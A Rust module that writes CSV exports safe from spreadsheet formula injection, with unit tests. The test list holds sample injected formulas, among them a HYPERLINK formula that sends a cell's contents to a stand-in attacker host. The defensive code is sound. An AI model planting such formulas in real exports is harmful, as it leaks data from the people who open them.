//! CSV exports, written for the people who open them in a spreadsheet.
//!
//! Every cell of an export may hold text a tenant typed (a justification,
//! a vendor, a typed name). A spreadsheet reads a cell that starts with
//! `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
//! formula, so a client could plant `=HYPERLINK(...)` in a justification
//! and have it run on the machine of the MSP officer who opens the
//! export. Such a cell is written with a leading `'`, which spreadsheets
//! show as text and do not display; the rest of the file is standard CSV.

use std::borrow::Cow;

use crate::error::{Error, Result};

/// The cell as it is safe to write: with a leading `'` when a spreadsheet
/// would otherwise take it for a formula.
pub fn cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// A CSV document being written: a header, then rows, each cell made safe.
pub struct Sheet {
    out: csv::Writer<Vec<u8>>,
}

impl std::fmt::Debug for Sheet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Sheet").finish_non_exhaustive()
    }
}

impl Sheet {
    pub fn new(header: &[&str]) -> Result<Self> {
        let mut sheet = Self {
            out: csv::Writer::from_writer(Vec::new()),
        };
        sheet.row(header.iter().copied())?;
        Ok(sheet)
    }

    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) -> Result<()> {
        self.out
            .write_record(cells.into_iter().map(|text| cell(text).into_owned()))
            .map_err(Error::storage)
    }

    pub fn finish(self) -> Result<String> {
        let bytes = self
            .out
            .into_inner()
            .map_err(|e| Error::storage(e.to_string()))?;
        String::from_utf8(bytes).map_err(Error::storage)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text() {
        for planted in [
            "=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(cell(planted), format!("'{planted}"), "{planted:?}");
        }
        for plain in [
            "",
            "Business need",
            "2026-03-02T10:00:00Z",
            "A.5.1",
            "'quoted",
        ] {
            assert_eq!(cell(plain), plain);
        }
    }

    #[test]
    fn a_sheet_is_standard_csv_with_safe_cells() {
        let mut sheet = Sheet::new(&["control", "justification"]).expect("header");
        sheet.row(["A.5.1", "=HYPERLINK(\"x\")"]).expect("row");
        sheet.row(["A.5.2", "not, \"needed\""]).expect("row");
        assert_eq!(
            sheet.finish().expect("csv"),
            "control,justification\nA.5.1,\"'=HYPERLINK(\"\"x\"\")\"\nA.5.2,\"not, \"\"needed\"\"\"\n"
        );
    }
}
